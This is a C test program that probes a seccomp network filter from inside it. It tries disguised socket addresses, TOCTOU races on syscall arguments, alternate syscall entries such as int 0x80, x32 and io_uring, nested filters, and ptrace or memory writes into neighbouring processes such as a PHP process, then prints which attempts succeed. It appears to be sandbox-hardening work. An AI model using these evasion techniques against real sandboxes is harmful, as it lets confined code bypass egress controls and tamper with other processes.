/* Attacks on a filter of system calls, from a program under it: attack ALLOWED REFUSED NEIGHBOUR TURNS PHP. Each line says what it tried, and how
 * often the call succeeded; the packets are counted elsewhere. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <pthread.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#define PORT 7

static const char *allowed, *refused;
static int turns;

static struct sockaddr_in v4(const char *address, int family) {
    struct sockaddr_in to = {.sin_family = family, .sin_port = htons(PORT)};
    inet_pton(AF_INET, address, &to.sin_addr);
    return to;
}
static struct sockaddr_in6 mapped(const char *address) {
    struct sockaddr_in6 to = {.sin6_family = AF_INET6, .sin6_port = htons(PORT)};
    to.sin6_addr.s6_addr[10] = to.sin6_addr.s6_addr[11] = 0xff;
    inet_pton(AF_INET, address, to.sin6_addr.s6_addr + 12);
    return to;
}
static void tell(const char *what, long result) { printf("%s: %s\n", what, result < 0 ? strerror(errno) : "done"); }

/* Each call with each disguise of the address. */
static void disguises(void) {
    struct sockaddr_in plain = v4(refused, AF_INET), unspecified = v4(refused, AF_UNSPEC);
    struct sockaddr_in6 six = mapped(refused);
    struct { const char *name; int domain; void *address; socklen_t length; } ways[] = {
        {"plain", AF_INET, &plain, sizeof plain}, {"no family", AF_INET, &unspecified, sizeof unspecified},
        {"mapped", AF_INET6, &six, sizeof six}, {"IPv4 over IPv6", AF_INET6, &plain, sizeof plain},
        {"no family over IPv6", AF_INET6, &unspecified, sizeof unspecified},
    };
    for (size_t i = 0; i < sizeof ways / sizeof *ways; i++) {
        struct iovec part = {"x", 1};
        struct msghdr message = {.msg_name = ways[i].address, .msg_namelen = ways[i].length, .msg_iov = &part, .msg_iovlen = 1};
        struct mmsghdr messages[2] = {{message}, {message}};
        int kinds[] = {SOCK_STREAM, SOCK_DGRAM};
        for (int kind = 0; kind < 2; kind++) {
            int s = socket(ways[i].domain, kinds[kind], 0);
            int connected = connect(s, ways[i].address, ways[i].length) == 0 && send(s, "x", 1, MSG_NOSIGNAL) > 0;
            int sent = sendto(s, "x", 1, MSG_NOSIGNAL, ways[i].address, ways[i].length) > 0;
            int by_message = sendmsg(s, &message, MSG_NOSIGNAL) > 0, by_messages = sendmmsg(s, messages, 2, MSG_NOSIGNAL) > 0;
            int fast = sendto(s, "x", 1, MSG_NOSIGNAL | MSG_FASTOPEN, ways[i].address, ways[i].length) > 0;
            int by_fast_message = sendmsg(s, &message, MSG_NOSIGNAL | MSG_FASTOPEN) > 0;
            printf("%s, %s: %d%d%d%d%d%d\n", ways[i].name, kind ? "UDP" : "TCP", connected, sent, by_message, by_messages, fast, by_fast_message);
            close(s);
        }
    }
    int s = socket(AF_INET, SOCK_STREAM, 0), on = 1;
    int set = setsockopt(s, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &on, sizeof on);
    printf("fast open by connect: %d\n", connect(s, (void *) &plain, sizeof plain) == 0 && send(s, "x", 1, MSG_NOSIGNAL) > 0 && set == 0);
    close(s);
}

/* What another thread exchanges while a call is decided. */
static struct sockaddr_in flipped, pair[2];
static struct msghdr flipped_message;
static int at, sockets[2];
static volatile int goes_on;
static void *flip_address(void *unused) {
    for (int i = 0; goes_on; i = !i) *(volatile uint32_t *) &flipped.sin_addr.s_addr = pair[i].sin_addr.s_addr;
    return unused;
}
static void *flip_name(void *unused) {
    for (int i = 0; goes_on; i = !i) *(void *volatile *) &flipped_message.msg_name = &pair[i];
    return unused;
}
static void *flip_descriptor(void *unused) {
    for (int i = 0; goes_on; i = !i) dup2(sockets[i], at);
    return unused;
}
static void race(const char *what, void *(*flip)(void *), int (*call)(void)) {
    pthread_t thread;
    int done = 0;
    goes_on = 1;
    pthread_create(&thread, NULL, flip, NULL);
    for (int i = 0; i < turns; i++) done += call() >= 0;
    goes_on = 0;
    pthread_join(thread, NULL);
    printf("%s: %s\n", what, done > turns / 50 ? "some done" : done ? "few done" : "none done");
}
static int by_connect(void) {
    int s = socket(AF_INET, SOCK_DGRAM, 0), result = connect(s, (void *) &flipped, sizeof flipped);
    if (result == 0) send(s, "x", 1, 0);
    close(s);
    return result;
}
static int by_sendto(void) { return sendto(sockets[0], "x", 1, 0, (void *) &flipped, sizeof flipped); }
static int by_sendmsg(void) { return sendmsg(sockets[0], &flipped_message, 0); }
static int by_sendmmsg(void) { return sendmmsg(sockets[0], (void *) &(struct mmsghdr) {flipped_message}, 1, 0); }
/* UDP is allowed there, TCP is not. */
static int by_descriptor(void) { return connect(at, (void *) &pair[0], sizeof *pair); }
static void races(void) {
    pair[0] = flipped = v4(allowed, AF_INET);
    pair[1] = v4(refused, AF_INET);
    sockets[0] = socket(AF_INET, SOCK_DGRAM, 0);
    static struct iovec part = {"x", 1};
    flipped_message = (struct msghdr) {.msg_name = &flipped, .msg_namelen = sizeof flipped, .msg_iov = &part, .msg_iovlen = 1};
    race("address of connect", flip_address, by_connect);
    race("address of sendto", flip_address, by_sendto);
    race("address of sendmsg", flip_address, by_sendmsg);
    race("address of sendmmsg", flip_address, by_sendmmsg);
    race("name of sendmsg", flip_name, by_sendmsg);
    sockets[1] = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    at = dup(sockets[0]);
    race("descriptor of connect", flip_descriptor, by_descriptor);
}

/* Other ways into the kernel. */
static void ways_in(void) {
    struct sockaddr_in *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    *low = v4(refused, AF_INET);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    long result;
    asm volatile("int $0x80" : "=a"(result) : "a"(362), "b"(s), "c"(low), "d"(sizeof *low) : "memory");
    printf("int 0x80: %s\n", result < 0 ? "refused" : "done");
    printf("x32: %s\n", syscall(0x40000000 | SYS_connect, s, low, sizeof *low) < 0 ? "refused" : "done");
    tell("io_uring", syscall(SYS_io_uring_setup, 1, (char[120]) {0}));
    printf("raw, packet, SCTP, MPTCP: %d%d%d%d\n", socket(AF_INET, SOCK_RAW, 255) >= 0, socket(AF_PACKET, SOCK_RAW, 0) >= 0,
        socket(AF_INET, SOCK_STREAM, 132) >= 0, socket(AF_INET, SOCK_STREAM, 262) >= 0);
}

static void nested(int action, unsigned flags, const char *what) {
    fflush(stdout);
    if (fork() == 0) {
        struct sock_filter code[] = {
            BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)), BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_connect, 0, 1),
            BPF_STMT(BPF_RET | BPF_K, action), BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
        };
        struct sock_fprog program = {sizeof code / sizeof *code, code};
        long installed = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, flags, &program);
        int error = errno;
        /* Nobody would answer. */
        if (installed > 0) close(installed);
        struct sockaddr_in to = v4(refused, AF_INET);
        int reached = connect(socket(AF_INET, SOCK_STREAM, 0), (void *) &to, sizeof to) == 0;
        printf("%s: %s, connect %s\n", what, installed < 0 ? strerror(error) : "installed", reached ? "done" : "refused");
        fflush(stdout);
        _exit(0);
    }
    wait(NULL);
}

static void neighbours(const char *whose, int neighbour) {
    int handle = syscall(SYS_pidfd_open, neighbour, 0);
    char word[8] = {0};
    struct iovec local = {word, sizeof word}, remote = {(void *) 0x400000, sizeof word};
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/mem", neighbour);
    printf("ptrace, descriptor and memory of %s: %d%d%d%d\n", whose, ptrace(PTRACE_SEIZE, neighbour, 0, 0) == 0, syscall(SYS_pidfd_getfd, handle, 0, 0) >= 0,
        process_vm_writev(neighbour, &local, 1, &remote, 1, 0) > 0 || errno == EFAULT, fopen(path, "r+b") != NULL);
}

int main(int count, char **arguments) {
    if (count < 6) return 64;
    allowed = arguments[1], refused = arguments[2], turns = atoi(arguments[4]);
    setvbuf(stdout, NULL, _IOLBF, 0);
    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    disguises();
    races();
    ways_in();
    nested(SECCOMP_RET_ALLOW, 0, "a filter that allows");
    nested(SECCOMP_RET_TRACE, 0, "a filter that asks a tracer");
    nested(SECCOMP_RET_USER_NOTIF, SECCOMP_FILTER_FLAG_NEW_LISTENER, "a supervisor of its own");
    neighbours("a neighbour", atoi(arguments[3]));
    neighbours("PHP", atoi(arguments[5]));
}
